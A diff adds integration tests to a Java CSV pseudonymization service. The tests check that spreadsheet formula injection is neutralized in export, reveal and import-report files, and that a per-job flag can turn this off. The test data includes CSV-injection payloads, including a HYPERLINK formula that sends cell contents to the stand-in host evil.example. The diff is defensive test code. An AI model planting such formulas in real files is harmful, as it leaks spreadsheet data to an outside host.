@@ -337,6 +337,136 @@ class CsvJobsIT {
     assertThat(done.getLong("rowsProcessed")).isEqualTo(3);
   }
 
+  /** Values a spreadsheet runs as a formula (or reads as a number): OWASP's first characters. */
+  private static final List<String> FORMULAS =
+      List.of(
+          "=HYPERLINK(\"http://evil.example/?\"&A1,\"open\")",
+          "+49 30 1234",
+          "-5",
+          "@SUM(A1:A2)",
+          "\t=1+1",
+          "\r=1+1");
+
+  /** A namespace whose pseudonyms never start with a character a spreadsheet runs. */
+  private static String prefixedNamespace(String prefix) {
+    return namespace(prefix, new JsonObject().put("pseudonymPrefix", "f-"));
+  }
+
+  @Test
+  void aRevealNeutralizesEveryCellASpreadsheetWouldRunAndCountsThem() throws Exception {
+    String ns = prefixedNamespace("formulas-reveal");
+    StringBuilder file = new StringBuilder("pid,note\r\n");
+    for (int i = 0; i < FORMULAS.size(); i++) {
+      file.append(create(ns, FORMULAS.get(i))).append(",n").append(i).append("\r\n");
+    }
+    // a cell of the file itself, and a malformed row, which would reach the spreadsheet raw
+    file.append(create(ns, "plain")).append(",=1+2\r\n").append("=x,bro\"ken\r\n");
+
+    JsonObject done =
+        run(
+            CsvJobClient.request(
+                "DEPSEUDONYMIZE",
+                Map.of("fileName", "f.csv"),
+                CsvJobClient.mapping("pid", null, ns)),
+            file.toString());
+
+    String output = CsvJobClient.download(done);
+    List<List<String>> expected = new java.util.ArrayList<>();
+    expected.add(List.of("pid", "note"));
+    for (int i = 0; i < FORMULAS.size(); i++) {
+      expected.add(List.of("'" + FORMULAS.get(i), "n" + i));
+    }
+    expected.add(List.of("plain", "'=1+2"));
+    expected.add(List.of("'=x,bro\"ken"));
+    assertThat(rows(output, ',')).isEqualTo(expected);
+    // each neutralized cell is quoted, so that its text is one cell whatever the spreadsheet
+    assertThat(output)
+        .contains(
+            "\r\n\"'-5\",n2\r\n",
+            "\"'=HYPERLINK(\"\"http://evil.example/?\"\"&A1,\"\"open\"\")\"",
+            "\r\nplain,\"'=1+2\"\r\n",
+            "\r\n\"'=x,bro\"\"ken\"\r\n");
+    assertThat(done.getBoolean("xNeutralizeFormulas")).isTrue();
+    assertThat(done.getLong("xNeutralizedCellCount")).isEqualTo(FORMULAS.size() + 2);
+    assertThat(done.getLong("badDataRowCount")).isEqualTo(1);
+  }
+
+  @Test
+  void anExportNeutralizesOriginalValuesAndAJobMayAskForRawCells() throws Exception {
+    String ns = prefixedNamespace("formulas-export");
+    Map<String, String> pseudonyms = new HashMap<>();
+    for (String value : FORMULAS) {
+      pseudonyms.put(value, create(ns, value));
+    }
+    String plain = create(ns, "plain");
+
+    JsonObject exported =
+        jobs.awaitEnd(
+            jobs.create(
+                    CsvJobClient.request(
+                        "EXPORT", Map.of(), CsvJobClient.mapping("original", "pseudonym", ns)))
+                .getString("id"),
+            TIMEOUT);
+    List<List<String>> expected = new java.util.ArrayList<>();
+    FORMULAS.forEach(value -> expected.add(List.of("'" + value, pseudonyms.get(value))));
+    expected.add(List.of("plain", plain));
+    List<List<String>> pairs = rows(CsvJobClient.download(exported), ',');
+    assertThat(pairs.subList(1, pairs.size())).containsExactlyInAnyOrderElementsOf(expected);
+    assertThat(exported.getLong("xNeutralizedCellCount")).isEqualTo(FORMULAS.size());
+
+    // switched off for one job: the cells as they are stored
+    JsonObject raw =
+        jobs.awaitEnd(
+            jobs.create(
+                    CsvJobClient.request(
+                        "EXPORT",
+                        Map.of("xNeutralizeFormulas", false),
+                        CsvJobClient.mapping("original", "pseudonym", ns)))
+                .getString("id"),
+            TIMEOUT);
+    List<List<String>> rawPairs = rows(CsvJobClient.download(raw), ',');
+    assertThat(rawPairs.stream().skip(1).map(List::getFirst))
+        .containsExactlyInAnyOrderElementsOf(
+            java.util.stream.Stream.concat(FORMULAS.stream(), java.util.stream.Stream.of("plain"))
+                .toList());
+    assertThat(raw.getBoolean("xNeutralizeFormulas")).isFalse();
+    assertThat(raw.getLong("xNeutralizedCellCount")).isZero();
+
+    // a de-pseudonymize job switched off writes what it revealed as it is
+    JsonObject revealed =
+        run(
+            CsvJobClient.request(
+                "DEPSEUDONYMIZE",
+                Map.of("hasHeaderRow", false, "xNeutralizeFormulas", false),
+                CsvJobClient.mapping("0", null, ns)),
+            pseudonyms.get("-5") + "\n" + pseudonyms.get("@SUM(A1:A2)") + "\n");
+    assertThat(CsvJobClient.download(revealed)).isEqualTo("-5\n@SUM(A1:A2)\n");
+    assertThat(revealed.getLong("xNeutralizedCellCount")).isZero();
+  }
+
+  @Test
+  void aPseudonymizeJobWritesCellsAsTheyAreUnlessAsked() throws Exception {
+    String ns = prefixedNamespace("formulas-pseudonymize");
+    JsonObject kept =
+        run(
+            CsvJobClient.request("PSEUDONYMIZE", Map.of(), CsvJobClient.mapping("id", null, ns)),
+            "id,note\na,-5\n");
+    assertThat(rows(CsvJobClient.download(kept), ',').get(1))
+        .containsExactly(create(ns, "a"), "-5");
+    assertThat(kept.getBoolean("xNeutralizeFormulas")).isFalse();
+
+    JsonObject neutralized =
+        run(
+            CsvJobClient.request(
+                "PSEUDONYMIZE",
+                Map.of("xNeutralizeFormulas", true),
+                CsvJobClient.mapping("id", null, ns)),
+            "id,note\na,-5\n");
+    assertThat(rows(CsvJobClient.download(neutralized), ',').get(1))
+        .containsExactly(create(ns, "a"), "'-5");
+    assertThat(neutralized.getLong("xNeutralizedCellCount")).isEqualTo(1);
+  }
+
   @Test
   void anImportRefusesPseudonymsThatDoNotFitTheNamespacesFormatAndStoresNoneOfThem()
       throws Exception {
@@ -383,6 +513,10 @@ class CsvJobsIT {
             "InvalidPseudonymValue",
             "InvalidPseudonymValue",
             "Imported");
+    // the report holds original values: neutralized as an export's
+    assertThat(report.get(2).get(1)).isEqualTo("'=HYPERLINK(\"http://evil.example\")");
+    assertThat(report.get(9).getFirst()).isEqualTo("'-5");
+    assertThat(done.getLong("xNeutralizedCellCount")).isEqualTo(2);
     assertThat(TestPostgres.pseudonymCount(ns)).isEqualTo(2);
     assertThat(http.get("/v1/namespaces/" + ns + "/pseudonyms/h-0123abcd-x").status())
         .isEqualTo(200);
@@ -533,6 +667,7 @@ class CsvJobsIT {
               CreateCsvJobRequest.newBuilder()
                   .setDirection(CsvJobDirection.CSV_JOB_DIRECTION_EXPORT)
                   .setHasHeaderRow(false)
+                  .setXNeutralizeFormulas(false)
                   .addColumnMappings(
                       ColumnMapping.newBuilder()
                           .setSourceColumn("o")
@@ -549,6 +684,8 @@ class CsvJobsIT {
               GetCsvJobRequest.newBuilder().setId(created.getId()).build());
       assertThat(got.getStatus()).isEqualTo(CsvJobStatus.CSV_JOB_STATUS_COMPLETED);
       assertThat(got.getDownloadUrl()).isNotEmpty();
+      assertThat(got.getXNeutralizeFormulas()).isFalse();
+      assertThat(created.getXNeutralizeFormulas()).isFalse();
       assertThat(
               grpc.call(
                       CsvJobServiceGrpcClient.GetCsvJob,
